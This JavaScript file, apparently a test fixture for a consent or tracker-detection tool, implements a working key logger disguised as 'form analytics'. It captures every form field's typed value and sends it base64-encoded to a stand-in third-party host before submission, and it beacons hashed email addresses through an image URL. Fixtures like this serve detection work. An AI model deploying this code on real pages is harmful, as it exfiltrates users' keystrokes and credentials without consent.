/*
 * A key logger, as "form analytics" scripts behave: served by the consentry fixture web at
 * https://input-analytics.example/v2/forms.js.
 *
 * Listens to `input` events on every field and, before anything is submitted, sends what was typed
 * to its own (third-party) host: the field's value base64-encoded in a JSON POST body once typing
 * pauses, and for email fields the SHA-256 of the trimmed, lower-cased address in an image URL — the
 * two ways such scripts ship keystrokes out.
 */
(function () {
  if (window.__inputAnalytics) return;
  window.__inputAnalytics = true;
  var ENDPOINT = 'https://input-analytics.example/v2/';
  var timers = new WeakMap();

  function sha256Hex(text) {
    return crypto.subtle.digest('SHA-256', new TextEncoder().encode(text)).then(function (digest) {
      return Array.prototype.map.call(new Uint8Array(digest), function (b) { return ('0' + b.toString(16)).slice(-2); }).join('');
    });
  }
  function fieldName(el) {
    return el.name || el.id || el.type || 'field';
  }
  function report(el) {
    var value = el.value || '';
    if (!value) return;
    fetch(ENDPOINT + 'fields', {
      method: 'POST',
      keepalive: true,
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ page: location.pathname, field: fieldName(el), v: btoa(unescape(encodeURIComponent(value))) }),
    }).catch(function () {});
    if (el.type === 'email' && value.indexOf('@') > 0) {
      sha256Hex(value.trim().toLowerCase()).then(function (hash) {
        new Image().src = ENDPOINT + 'id.gif?h=' + hash + '&t=' + Date.now();
      });
    }
  }
  document.addEventListener('input', function (event) {
    var el = event.target;
    if (!el || !('value' in el)) return;
    clearTimeout(timers.get(el));
    timers.set(el, setTimeout(function () { report(el); }, 250));
  }, true);
})();
